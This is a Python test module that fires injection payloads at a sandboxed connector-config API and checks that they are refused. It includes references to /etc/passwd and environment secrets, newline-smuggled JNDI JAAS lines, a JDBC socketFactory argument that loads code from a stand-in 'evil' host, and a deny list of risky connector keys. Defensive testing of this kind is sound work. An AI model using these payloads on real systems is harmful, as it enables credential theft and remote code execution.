"""Tries to bring lines of its own into a connector's config, through every text that reaches one."""

import re
from collections.abc import Callable, Iterator, Sequence
from contextlib import suppress
from dataclasses import dataclass, field
from itertools import chain

from chalicelib.domain.connector_config import is_reference
from chalicelib.domain.providers.postgresql.properties import ALLOWED_PROPERTIES
from tests.support.apps.sandbox import PASSWORD, ROLE_PASSWORD, WRITER_PASSWORD, Sandbox
from tests.support.hostile.document_fields import Json, Path, body_schema, changed, free_texts

REFERENCES = (
    "${file:/etc/passwd:root}",
    "${env:HEADGATE_MASTER_KEY}",
    "${headgate:00000000-0000-4000-8000-000000000000:password}",
    "a${directory:/etc:x}b",
    "${${env:A}}",
    "\\${secretsmanager:x}",
)
"""Refused in every text (wire contract, "Credentials, everywhere"): Connect would resolve them."""
LINES = (
    "x\nsasl.jaas.config=com.sun.security.auth.module.JndiLoginModule required;",
    "x\r\nconnector.class=evil",
    "x\u2028transforms=evil",
    "x\x00",
    "x\x1b[2J",
)
"""Refused in every text but descriptions: they could look like further lines."""
URL_PARTS = (
    "x?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://evil",
    "x&sslmode=disable",
    "x%3FsocketFactory=evil",
    "x#fragment",
    "x/../y",
    "x;INIT=RUNSCRIPT",
    "x\\y",
    "evil@host",
    "x:5432,evil:5432",
    "jdbc:postgresql://evil/x",
)
"""Refused where a character of theirs would change a JDBC URL or an address: see `REFUSED_CHARACTERS`."""
REFUSED_CHARACTERS = {
    "host": "?&%#/\\;@,",
    "database_name": "?&%#/\\",
    "base_url": "?&%#\\;@,",
    "bootstrap_servers": "?&%#/\\;@",
    "topic_prefix": "?&%#/\\;@,:",
    "topic": "?&%#/\\;@,:",
    "slot_name": "?&%#/\\;@,:",
    "publication_name": "?&%#/\\;@,:",
}
"""By the field that may not have them."""
KEYS = (
    "producer.override.sasl.jaas.config", "consumer.override.sasl.jaas.config", "admin.override.sasl.jaas.config",
    "database.history.producer.sasl.jaas.config", "schema.history.internal.consumer.sasl.jaas.config",
    "producer.override.security.protocol", "producer.override.bootstrap.servers", "connector.class", "tasks.max",
    "name", "database.hostname", "database.port", "database.password", "database.user", "database.dbname",
    "database.sslfactory", "database.initial.statements", "driver.socketFactory", "driver.sslfactory",
    "signal.kafka.bootstrap.servers", "signal.enabled.channels", "notification.sink.topic.name", "transforms",
    "transforms.evil.type", "predicates", "key.converter", "value.converter", "header.converter",
    "value.converter.schema.registry.url", "config.action.reload", "errors.deadletterqueue.topic.name",
    "errors.log.include.messages", "heartbeat.action.query", "snapshot.select.statement.overrides",
    "snapshot.query.mode.custom.name", "topic.naming.strategy", "custom.metric.tags", "post.processors", "converters",
    "headgate.owner", "headgate.secrets", "connection.url", "key.converter.schemas.enable", "Database.Hostname",
    " database.hostname", "database.hostname\n", "snapshot.fetch.size\nx", "${env:A}",
)  # fmt: skip
"""Keys of a pipeline's `properties` that lead to another host, file, class, query or credential."""
Kinds = tuple[Sequence[str], Sequence[str], Sequence[str]]
SECRETS = (ROLE_PASSWORD, WRITER_PASSWORD, PASSWORD)


@dataclass(kw_only=True)
class Injections:
    """`accepted` are attempts that the contract refuses and Headgate did not; the rest is about received configs."""

    attempts: int = 0
    accepted: list[str] = field(default_factory=list)
    configs: int = 0
    unexpected: list[str] = field(default_factory=list)
    secrets: list[str] = field(default_factory=list)


@dataclass(kw_only=True)
class Injector:
    """Attempts at the resources of a sandbox.

    With `each_in_turn` a place or property gets one text of each kind that is refused everywhere, the next one the next
    text. The figures of `tests.security` are of all texts everywhere.
    """

    sandbox: Sandbox
    each_in_turn: bool = False
    injections: Injections = field(default_factory=Injections)
    _turn: int = 0

    def run(self) -> Injections:
        """Every text of every body that ends in a config, and every key."""
        document = self.sandbox.admin.get_ok("//openapi.json")
        expected = self._keys_of(self.sandbox.pipeline["connector_name"])
        sink = self._keys_of(self.sandbox.new_delivery()["connector_name"])
        for path, new_body in self._bodies():
            template = path.replace(self.sandbox.destination["id"], "{uuid}")
            schema = body_schema(document, "post", "/api/v1" + template)
            assert schema is not None, template
            for at in free_texts(document, schema):
                for text, refused in texts_for(at, self._kinds()):
                    self._attempt(path, changed(new_body(), at, text), f"{path} {at} {text!r}", refused)
        self._properties()
        self._judge_received(expected | sink)
        return self.injections

    def _kinds(self) -> Kinds:
        """References, lines and parts of URLs to try at the next place."""
        if not self.each_in_turn:
            return REFERENCES, LINES, URL_PARTS
        self._turn += 1
        return [REFERENCES[self._turn % len(REFERENCES)]], [LINES[self._turn % len(LINES)]], URL_PARTS

    def _bodies(self) -> Iterator[tuple[str, Callable[[], Json]]]:
        sandbox, destination = self.sandbox, self.sandbox.destination["id"]
        broker = {"bootstrap_servers": sandbox.doubles.kafka}
        workers = {"base_url": sandbox.doubles.connect, "stream_cluster_id": sandbox.stream["id"]}
        yield "/sources", sandbox.source_body
        yield "/destinations", sandbox.destination_body
        yield "/stream/clusters", lambda: {"name": sandbox.name("broker"), **broker}
        yield "/connect/clusters", lambda: {"name": sandbox.name("workers"), **workers}
        yield "/pipelines/preview", sandbox.pipeline_body
        yield "/pipelines", sandbox.pipeline_body
        yield f"/destinations/{destination}/preview", lambda: sandbox.delivery_body(sandbox.pipeline)
        yield f"/destinations/{destination}/deploy", lambda: sandbox.delivery_body(sandbox.pipeline)

    def _properties(self) -> None:
        for key in KEYS:
            body = self.sandbox.pipeline_body(properties={key: "x"})
            self._attempt("/pipelines", body, f"property {key!r}", refused=True)
        for key in ALLOWED_PROPERTIES:
            for text in chain(*self._kinds()):
                body = self.sandbox.pipeline_body(properties={key: text})
                self._attempt("/pipelines", body, f"property {key} = {text!r}", refused=True)

    def _attempt(self, path: str, body: Json, attempt: str, refused: bool) -> None:
        self.injections.attempts += 1
        answer = self.sandbox.admin.post(path, body)
        if answer.status_code >= 500 or (refused and answer.status_code != 422):
            self.injections.accepted.append(f"{attempt}: {answer.status_code} {answer.text[:200]}")
        if answer.status_code == 200 and path.endswith("/preview"):
            self._judge(answer.json()["config"], attempt)
        if answer.status_code == 201 and path == "/pipelines":
            self.sandbox.admin.post(f"/pipelines/{answer.json()['id']}/deploy")
        if answer.status_code == 201 and path in ("/sources", "/destinations", "/stream/clusters", "/connect/clusters"):
            self.sandbox.admin.delete(f"{path}/{answer.json()['id']}")

    def _keys_of(self, connector: str) -> frozenset[str]:
        return frozenset(self.sandbox.doubles.connect_double.config_of(connector))

    def _judge_received(self, expected: frozenset[str]) -> None:
        double = self.sandbox.doubles.connect_double
        for name in double.names():
            with suppress(KeyError):
                config = double.config_of(name)
                self.injections.configs += 1
                self._judge(config, name)
                if odd := set(config) - expected - set(_OPTIONAL):
                    self.injections.unexpected.append(f"{name}: {sorted(odd)}")

    def _judge(self, config: Json, attempt: str) -> None:
        for key, value in config.items():
            ours = is_reference(value) and value.startswith("${headgate:")
            if "${" in value and not ours and not _TABLE_OF_TOPIC.fullmatch(f"{key}={value}"):
                self.injections.unexpected.append(f"{attempt}: {key} refers to something else: {value}")
            if any(letter in value for letter in "\r\n\x00\x1b\u2028"):
                self.injections.unexpected.append(f"{attempt}: {key} has several lines: {value!r}")
            if any(secret in value for secret in SECRETS):
                self.injections.secrets.append(f"{attempt}: {key}")


_OPTIONAL = ("column.exclude.list", "topic.heartbeat.name", "heartbeat.action.query", "slot.name", "publication.name")
"""Keys of options that a shared pipeline does not use."""
_TABLE_OF_TOPIC = re.compile(r'collection\.name\.format="mart"\."\$\{topic\}"')
"""A placeholder of the sink's own, which Connect leaves as it is."""


def texts_for(at: Path, kinds: Kinds) -> Iterator[tuple[str, bool]]:
    """Texts to try at a place, and whether the contract refuses them there."""
    references, lines, url_parts = kinds
    for text in references:
        yield text, True
    for text in lines:
        yield text, at[-1] != "description" and "credentials" not in at
    for text in url_parts:
        yield text, bool(set(text) & set(REFUSED_CHARACTERS.get(at[-1], "")))
